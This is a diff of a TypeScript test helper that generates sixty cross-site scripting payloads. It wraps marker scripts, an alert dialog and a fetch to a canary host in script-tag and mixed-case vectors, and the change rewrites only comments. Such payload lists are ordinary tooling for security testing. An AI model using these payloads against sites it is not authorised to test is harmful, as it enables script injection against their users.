@@ -1,7 +1,7 @@
-/** Would tell of itself by one of these: a mark on the window, a dialog, or a request to another host. */
+/** Signs of execution: a mark on the window, a dialog, or a request to another host. */
 const RUNS = ['top.ran=1', 'alert(1)', "fetch('//canary.invalid')"] as const;
 
-/** Ways from a text into a script, of the kinds that lists of such payloads have: elements, handlers, addresses, broken-out attributes, templates, odd spellings. */
+/** Common XSS vectors: elements, event handlers, URLs, attribute breakouts, templates, odd spellings. */
 const WAYS: readonly ((script: string) => string)[] = [
   (script) => `<script>${script}</script>`,
   (script) => `<ScRiPt>${script}</sCrIpT>`,
@@ -37,19 +37,19 @@ const WAYS: readonly ((script: string) => string)[] = [
 
 const SHORT = WAYS.map((way) => way(RUNS[0]));
 
-/** Sixty: every way with the mark, and again with the dialog or the request. */
+/** Sixty payloads: every vector with the mark, and again with the dialog or the request. */
 export const XSS_PAYLOADS: readonly string[] = [
   ...SHORT,
   ...WAYS.map((way, index) => way(index % 2 ? RUNS[1] : RUNS[2])),
 ];
 
-/** One of those that a short field takes. */
+/** A payload that fits a short field. */
 export function payloadAt(index: number, most = 100): string {
   const fitting = XSS_PAYLOADS.filter(({ length }) => length <= most);
   return fitting[index % fitting.length] ?? '';
 }
 
-/** As many as a long field takes. */
+/** As many payloads as fit a long field. */
 export function allPayloads(most: number): string {
   const kept: string[] = [];
   for (const payload of XSS_PAYLOADS) if ([...kept, payload].join('\n').length <= most) kept.push(payload);
